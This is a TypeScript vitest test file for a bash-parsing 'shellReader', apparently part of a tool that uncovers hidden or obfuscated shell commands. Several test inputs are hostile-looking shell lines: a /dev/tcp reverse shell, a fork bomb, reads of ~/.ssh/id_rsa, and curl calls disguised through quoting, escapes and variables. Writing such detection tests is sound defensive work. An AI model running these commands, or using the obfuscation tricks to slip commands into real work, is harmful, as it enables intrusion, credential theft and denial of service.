import { describe, expect, it } from "vitest";
import type { Command } from "../../program.ts";
import { Grammar } from "../grammar.ts";
import { shellReader } from "./read-shell.ts";

const read = shellReader(await Grammar.load("bash"));
const commandsOf = (text: string) => read(text, 1).commands;
const shown = ({ name, words }: Command): string => [name, ...words.map((word) => word.text)].join(" ");
const namesOf = (commands: readonly Command[]) => commands.map(({ name }) => name).join(" ");

describe("shellReader", () => {
  it.each([
    ["a; b && c || d", ["a", "b", "c", "d"]],
    ["(a; { b; })", ["a", "b"]],
    ["f() { a; }", ["a"]],
    ["for i in x y; do a; done", ["a"]],
    ["while a; do b; done", ["a", "b"]],
    ["if a; then b; else c; fi", ["a", "b", "c"]],
    ["case x in y) a ;; esac", ["a"]],
    ['c"ur"l x', ["curl x"]],
    ["cu\\rl x", ["curl x"]],
    ["$'\\x63ur\\154' x", ["curl x"]],
    ["U=http://x; curl $U", ["curl http://x"]],
    ["U=http://x; curl ${U}/y", ["curl http://x/y"]],
    ["C=cu; ${C}rl x", ["curl x"]],
    ["C='curl -s'; $C x", ["curl -s x"]],
    ["local U=a; curl $U", ["local U=a", "curl a"]],
    ["readonly U=a; curl $U", ["readonly U=a", "curl a"]],
    ["U=a; U=b; curl $U", ["curl $U"]],
    ["curl${IFS}x", ["curl x"]],
    ["cp $1/$2 x", ["cp $1/$2 x"]],
    ["B=b; curl ${A}/$B/c/$D", ["curl ${A}/b/c/$D"]],
    ["X=$A/$B/c; d $X", ["d $A/$B/c"]],
    ['B=b; a "$A/$B/c" "\\$A/\\$B/c" \'$A/$B/c\'', ["a $A/b/c $A/$B/c $A/$B/c"]],
    ["a - <<'E' $X\n$Y\nE", ["a - $X"]],
    ["/usr/bin/CURL.exe x", ["curl x"]],
    ["$X y", [" y"]],
    ["find . -exec rm -f {} \\;", ["find . -exec rm -f {} ;", "rm -f {}"]],
    ["$ npm install <your-key> x", ["npm install <your-key> x"]],
    ["# apt-get install x\n# curl y", ["apt-get install x", "curl y"]],
    ["# curl is a program\na b\nc d", ["a b", "c d"]],
    ["echo 'rm x' # curl y", ["echo rm x"]],
    ["a \\\n  b", ["a b"]],
    ["a > f b", ["a b"]],
    ['A=(cu rl); "${A[0]}${A[1]}" x', ["curl x"]],
    ['A=(-H "b c"); curl "${A[@]}" ${A[*]}', ["curl -H b c -H b c"]],
    ['RC="$HOME/.zshrc"; a "$RC"', ["a $HOME/.zshrc"]],
    ['C="curl -H $T"; $C x', ["curl -H $T x"]],
    ['X=$1; a "$X"', ["a $X"]],
    ['for f in ~/.ssh/id_rsa b; do a "$f"; done', ["a ~/.ssh/id_rsa b"]],
    ["for f in $X *.md; do a $f; done", ["a *.md"]],
    ["for f in x y; do h=$(a $f); done", ["a x y"]],
    ["D=a; D+=b; c $D", ["c ab"]],
    ['A=(-s); A+=(-d x); curl "${A[@]}" u', ["curl -s -d x u"]],
    ['g() { curl "http://$1/$2"; }; g h p', ["curl http://$1/$2", "curl http://h/p"]],
    ["alias g='curl -s'; g u", ["alias g=curl -s", "curl -s u"]],
    ["alias g='a; b'; g u", ["alias g=a; b", "g u"]],
    ['g() { curl -s "$@"; }; sudo g u v', ["curl -s $@", "curl -s u v"]],
    ['function g { curl -o "$2" "$1"; }; g u v', ["curl -o $2 $1", "curl -o v u"]],
    ["g() { a; b $1; }; g u", ["a", "b $1", "g u"]],
    [
      'a | b | c -d @- x\nK=$(d)\ncurl -d "k=$K" \\\n  -X y < z\n:(){ :|:& };:\ne f',
      ["a", "b", "c -d @- x", "d", "curl -d k=$K -X y", ":", ":", ":", "e f"],
    ],
    ["case x in\n a|b|c)\n d < e ;;\nesac", ["d"]],
    ["a | b | c <<E\nx\nE\nd < e", ["a", "b", "c", "d"]],
  ])("reads the commands of %j", (text, expected) => {
    expect(commandsOf(text).map(shown)).toEqual(expected);
  });

  it.each([
    "sudo -u root x",
    "doas x",
    "env A=1 x",
    "nohup x",
    "exec x",
    "command x",
    "builtin x",
    "time x",
    "timeout -k 1 5 x",
    "nice -n 5 x",
    "setsid x",
    "busybox x",
    "xargs -n1 -I {} x",
    "sudo env A=1 nohup x",
  ])("reads what %j runs", (text) => {
    expect(namesOf(commandsOf(text))).toBe("x");
  });

  it("takes what asks for a command for no run of it", () => {
    expect(namesOf(commandsOf("command -v curl"))).toBe("command");
  });

  it.each([
    ["sudo x", true],
    ["doas x", true],
    ["pkexec x", true],
    ["nohup x", false],
  ])("tells whether %j is elevated", (text, isElevated) => {
    expect(commandsOf(text)[0]?.isElevated).toBe(isElevated);
  });

  it.each([
    ["a | b | c", "a b"],
    ["{ a; b; } | c", "a b"],
    ["a | (c)", "a"],
    ["a | while read x; do c; done", "a read"],
    ["a | sudo c", "a"],
    ["a <<E | c\ntext\nE", "a"],
  ])("tells what the last command of %j reads", (text, reads) => {
    const last = commandsOf(text).find(({ name }) => name === "c");
    const known = namesOf(last?.reads ?? []);
    expect(reads.startsWith(known) && known !== "").toBe(true);
  });

  it.each([
    ["c $(a x)", "a"],
    ["c `a x`", "a"],
    ['c "b $(a x)"', "a"],
    ["c <(a x)", "a"],
    ["c < <(a x)", "a"],
    ['X=$(a x); c "$X"', "a"],
    ["X=$(a x); Y=$X; c $Y", "a"],
    ["for i in $(a); do c $i; done", "a"],
    ["read X < f; c $X", "read"],
    ["a | while read -r X; do c $X; done", "read"],
    [". <(a); c <(a)", "a"],
    ["((n = $(a | b))); c $(a)", "a"],
  ])("tells whose output stands in %j", (text, inner) => {
    const command = commandsOf(text).find(({ name }) => name === "c");
    expect(namesOf(command?.inner ?? [])).toBe(inner);
  });

  it.each([
    ["a > x", [">", "x"]],
    ["a >> x", [">>", "x"]],
    ["a 2>&1", ["2>&", "1"]],
    ["a <<< 'x'", ["<<<", "x"]],
    ["bash -i >& /dev/tcp/1.2.3.4/5 0>&1", [">&", "/dev/tcp/1.2.3.4/5"]],
    ["a <<'E'\n$x\nE", ["<<", "$x\n"]],
    ["(a) > x", [">", "x"]],
  ])("reads the redirect of %j", (text, [operator, target]) => {
    expect(commandsOf(text)[0]?.redirects[0]).toMatchObject({ operator, target: { text: target } });
  });

  it.each([
    ["bash -c 'x'", "bash", "x"],
    ["sudo sh -ec 'x'", "bash", "x"],
    ['eval "x y"', "bash", "x y"],
    ["python3 -c 'x'", "python", "x"],
    ["node -e 'x'", "javascript", "x"],
    ["powershell -Command x", "powershell", "x"],
    ["pwsh -enc YQBiAA==", "powershell", "ab"],
    ["trap 'x' EXIT", "bash", "x"],
    ["watch -n 5 'x'", "bash", "x"],
    ["alias a='x y'", "bash", "x y"],
    ["bash <<< 'x'", "bash", "x"],
    ["echo 'x y' | sh", "bash", "x y"],
    ["ssh -i k -p 22 u@h -t 'x y'", "bash", "x y"],
    ["ssh h sudo x", "bash", "sudo x"],
    ["docker run --rm a sh -c 'x'", "bash", "x"],
    ["docker exec -it c /bin/bash -lc 'x'", "bash", "x"],
    ["bash -euxc 'x'", "bash", "x"],
    ["docker run python sh -c 'x'", "bash", "x"],
    ["kubectl exec p -- sh -c 'x'", "bash", "x"],
    ["su - root -c 'x'", "bash", "x"],
    ["nsenter -t 1 -m -- sh -c 'x'", "bash", "x"],
    ["chroot /mnt sh -c 'x'", "bash", "x"],
    ["python3 <<< 'x'", "python", "x"],
    ["source /dev/stdin <<< 'x'", "bash", "x"],
    ['C="x $Y"; eval "$C"', "bash", "x $Y"],
  ])("finds the program in %j", (text, language, program) => {
    expect(read(text, 3).embedded).toEqual([{ language, text: program, line: 3 }]);
  });

  it.each([
    ["bash <<E\nx\nE", "bash"],
    ["cat <<E | python3\nx\nE", "python"],
    ["node - <<'E'\nx\nE", "javascript"],
  ])("finds the heredoc that is run in %j", (text, language) => {
    expect(read(text, 1).embedded).toEqual([{ language, text: "x\n", line: 2 }]);
  });

  it.each([
    "ssh -p 22 host",
    'ssh host "$X"',
    "docker run a b",
    "ruby -e x",
    "cat <<E\nx\nE",
    "python3 x.py <<E\nx\nE",
    'bash -c "$(a)"',
    'eval "$X"',
  ])("finds no program in %j", (text) => {
    expect(read(text, 1).embedded).toEqual([]);
  });

  it("tells variables that are not set, modules, comments and strings", () => {
    const program = read('A=1\necho $A $1 $@ "$TOKEN"\n. ./lib.sh # why\n', 10);
    expect(program).toMatchObject({
      environment: [{ value: "TOKEN", line: 11 }],
      imports: [{ value: "./lib.sh", line: 12 }],
      comments: [{ value: "why", line: 12 }],
      strings: [{ value: "$TOKEN", line: 11 }],
      calls: [],
    });
  });

  it.each(["a $A/$TOKEN/c", 'a "$A/$TOKEN/c"', "a <<E\n$A/$TOKEN/c\nE"])("tells both variables of %j", (text) => {
    expect(read(text, 1).environment.map(({ value }) => value)).toEqual(["A", "TOKEN"]);
  });

  it("takes a list of all variables for a reading of the environment", () => {
    expect(read("compgen -e", 1).environment).toEqual([{ value: "*", line: 1 }]);
  });

  it("counts lines from the first, in commands of several lines too", () => {
    expect(read("\na \\\n b\nc", 5).commands.map(({ line }) => line)).toEqual([6, 8]);
  });

  it.each([
    "",
    "\0a\0|",
    "if (",
    "'",
    "$(".repeat(5_000),
    "(".repeat(20_000),
    '"$('.repeat(5_000),
    "a && ".repeat(20_000),
    "a | ".repeat(1_000),
    "x".repeat(1_000_000),
    "<a ".repeat(1_000),
    "find . -exec ".repeat(1_000),
  ])("does not fail at broken or deep text (case %#)", (text) => {
    expect(() => read(text, 1)).not.toThrow();
  });

  it("does not let variables grow beyond bounds", () => {
    const lines = Array.from({ length: 60 }, (_, at) => `A${at + 1}=$A${at}$A${at}`);
    const { commands } = read(`A0=xxxxxxxxxx\n${lines.join("\n")}\necho $A60`, 1);
    expect(commands[0]?.words[0]?.text.length).toBeLessThan(100_000);
  });
});
